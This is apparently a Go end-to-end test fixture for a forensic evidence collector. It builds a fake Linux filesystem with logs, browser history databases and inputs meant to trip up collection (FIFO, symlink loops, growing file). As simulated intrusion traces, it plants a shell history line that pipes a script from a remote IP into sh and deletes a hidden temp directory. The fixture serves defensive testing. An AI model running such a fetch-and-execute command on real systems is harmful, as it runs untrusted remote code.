package e2e

import (
	"context"
	"database/sql"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	_ "modernc.org/sqlite"
)

// fixture is a collection root with the files an investigation expects
// and the hostile inputs a collector must survive.
type fixture struct {
	root string
	// collected lists the paths inside root whose content must be in the
	// package, byte for byte.
	collected []string
	// nonUTF8 is the path of a file whose name is not valid UTF-8.
	nonUTF8 string
	// unreadable, fifo, growing and loop are the hostile inputs.
	unreadable, fifo, growing, loopDir string
	stopGrowing                        context.CancelFunc
	firefox                            *sql.DB
}

func writeFile(t *testing.T, root, path, content string, mode os.FileMode) {
	t.Helper()
	full := filepath.Join(root, path)
	if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(full, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	root := t.TempDir()
	os.Chmod(root, 0o755)
	f := &fixture{root: root}

	files := map[string]string{
		"/etc/passwd":                   "root:x:0:0:root:/root:/bin/bash\nu1:x:1000:1000:User One:/home/u1:/bin/bash\n",
		"/etc/group":                    "root:x:0:\nu1:x:1000:\n",
		"/etc/hosts":                    "127.0.0.1 localhost\n10.9.8.7 ws-e2e-01.corp.example ws-e2e-01\n",
		"/etc/ssh/sshd_config":          "PermitRootLogin no\n",
		"/etc/crontab":                  "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
		"/var/log/auth.log":             "Dec  4 10:00:01 ws-e2e-01 sshd[123]: Accepted publickey for u1 from 10.0.0.9 port 50022\n",
		"/var/log/messages":             strings.Repeat("Dec  4 10:00:02 ws-e2e-01 kernel: line\n", 200),
		"/home/u1/.bash_history":        "curl http://203.0.113.5/x.sh | sh\nrm -rf /tmp/.x\n",
		"/root/.bash_history":           "journalctl -u sshd\n",
		"/home/u1/.ssh/authorized_keys": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE2e2e u1@laptop\n",
	}
	for path, content := range files {
		writeFile(t, root, path, content, 0o644)
		f.collected = append(f.collected, path)
	}
	writeFile(t, root, "/etc/shadow", "root:*:19000:0:99999:7:::\n", 0o640)
	f.collected = append(f.collected, "/etc/shadow")

	f.collected = append(f.collected, chromeHistory(t, root, "/home/u1/.config/google-chrome/Default/History"))
	f.firefox = firefoxPlaces(t, root, "/home/u1/.mozilla/firefox/abcd1234.default-release/places.sqlite")
	f.collected = append(f.collected, "/home/u1/.mozilla/firefox/abcd1234.default-release/places.sqlite")

	// A name that is not valid UTF-8.
	f.nonUTF8 = "/var/log/audit/caf\xe9-\xff.log"
	writeFile(t, root, f.nonUTF8, "latin-1 named log\n", 0o644)

	// A file root can read only with CAP_DAC_OVERRIDE.
	f.unreadable = "/var/log/audit/audit.log"
	writeFile(t, root, f.unreadable, "secret\n", 0o000)

	// A FIFO: opening it for reading would block forever.
	f.fifo = "/var/log/audit/pipe"
	if err := syscall.Mkfifo(filepath.Join(root, f.fifo), 0o644); err != nil {
		t.Fatal(err)
	}

	// A directory symlink loop inside a recursively collected tree, and a
	// pair of file symlinks pointing at each other.
	f.loopDir = "/var/log/audit/loop"
	os.MkdirAll(filepath.Join(root, f.loopDir), 0o755)
	if err := os.Symlink("..", filepath.Join(root, f.loopDir, "parent")); err != nil {
		t.Fatal(err)
	}
	os.Symlink("auth.log.2", filepath.Join(root, "/var/log/auth.log.1"))
	os.Symlink("auth.log.1", filepath.Join(root, "/var/log/auth.log.2"))

	// A file that grows while the responder reads it.
	f.growing = "/var/log/syslog"
	writeFile(t, root, f.growing, strings.Repeat("initial line\n", 50000), 0o644)
	ctx, cancel := context.WithCancel(context.Background())
	f.stopGrowing = cancel
	done := make(chan struct{})
	go func() {
		defer close(done)
		out, err := os.OpenFile(filepath.Join(root, f.growing), os.O_APPEND|os.O_WRONLY, 0)
		if err != nil {
			return
		}
		defer out.Close()
		// Bounded: at most 10 minutes of appends, one line per millisecond.
		for i := 0; i < 600000; i++ {
			select {
			case <-ctx.Done():
				return
			case <-time.After(time.Millisecond):
			}
			fmt.Fprintf(out, "appended line %d\n", i)
		}
	}()
	t.Cleanup(func() {
		cancel()
		<-done
		f.firefox.Close()
	})
	return f
}

// chromeHistory creates a Chrome History database with the tables
// investigators query: urls, visits and downloads.
func chromeHistory(t *testing.T, root, path string) string {
	t.Helper()
	full := filepath.Join(root, path)
	os.MkdirAll(filepath.Dir(full), 0o755)
	db, err := sql.Open("sqlite", full)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	stmts := []string{
		`CREATE TABLE urls(id INTEGER PRIMARY KEY AUTOINCREMENT,url LONGVARCHAR,title LONGVARCHAR,visit_count INTEGER DEFAULT 0 NOT NULL,typed_count INTEGER DEFAULT 0 NOT NULL,last_visit_time INTEGER NOT NULL,hidden INTEGER DEFAULT 0 NOT NULL)`,
		`CREATE TABLE visits(id INTEGER PRIMARY KEY,url INTEGER NOT NULL,visit_time INTEGER NOT NULL,from_visit INTEGER,transition INTEGER DEFAULT 0 NOT NULL,segment_id INTEGER,visit_duration INTEGER DEFAULT 0 NOT NULL)`,
		`CREATE TABLE downloads(id INTEGER PRIMARY KEY,guid VARCHAR NOT NULL,current_path LONGVARCHAR NOT NULL,target_path LONGVARCHAR NOT NULL,start_time INTEGER NOT NULL,received_bytes INTEGER NOT NULL,total_bytes INTEGER NOT NULL,state INTEGER NOT NULL,danger_type INTEGER NOT NULL,interrupt_reason INTEGER NOT NULL,end_time INTEGER NOT NULL,opened INTEGER NOT NULL,referrer VARCHAR NOT NULL,tab_url VARCHAR NOT NULL DEFAULT '',mime_type VARCHAR(255) NOT NULL DEFAULT '')`,
		`INSERT INTO urls(url,title,visit_count,last_visit_time) VALUES('http://203.0.113.5/payload','payload',3,13370000000000000)`,
		`INSERT INTO visits(url,visit_time,transition) VALUES(1,13370000000000000,805306368)`,
		`INSERT INTO downloads VALUES(1,'0b9f','/home/u1/Downloads/x.sh','/home/u1/Downloads/x.sh',13370000000000000,512,512,1,0,0,13370000000000001,0,'http://203.0.113.5/','','text/x-sh')`,
	}
	for _, s := range stmts {
		if _, err := db.Exec(s); err != nil {
			t.Fatalf("chrome fixture: %v", err)
		}
	}
	return path
}

// firefoxPlaces creates a Firefox places.sqlite in WAL mode and keeps it
// open, so that the -wal and -shm files exist while the responder collects,
// as they do on a machine with Firefox running.
func firefoxPlaces(t *testing.T, root, path string) *sql.DB {
	t.Helper()
	full := filepath.Join(root, path)
	os.MkdirAll(filepath.Dir(full), 0o755)
	db, err := sql.Open("sqlite", "file:"+full+"?_pragma=journal_mode(WAL)")
	if err != nil {
		t.Fatal(err)
	}
	db.SetMaxOpenConns(1)
	stmts := []string{
		`CREATE TABLE moz_places(id INTEGER PRIMARY KEY,url LONGVARCHAR,title LONGVARCHAR,rev_host LONGVARCHAR,visit_count INTEGER DEFAULT 0,hidden INTEGER DEFAULT 0 NOT NULL,typed INTEGER DEFAULT 0 NOT NULL,frecency INTEGER DEFAULT -1 NOT NULL,last_visit_date INTEGER,guid TEXT,foreign_count INTEGER DEFAULT 0 NOT NULL,url_hash INTEGER DEFAULT 0 NOT NULL)`,
		`CREATE TABLE moz_historyvisits(id INTEGER PRIMARY KEY,from_visit INTEGER,place_id INTEGER,visit_date INTEGER,visit_type INTEGER,session INTEGER)`,
		`INSERT INTO moz_places(url,title,rev_host,visit_count,last_visit_date,guid) VALUES('https://203.0.113.7/login','login','7.311.0.302.',1,1733300000000000,'abcdefghijkl')`,
		`INSERT INTO moz_historyvisits(from_visit,place_id,visit_date,visit_type,session) VALUES(0,1,1733300000000000,1,0)`,
	}
	for _, s := range stmts {
		if _, err := db.Exec(s); err != nil {
			t.Fatalf("firefox fixture: %v", err)
		}
	}
	return db
}
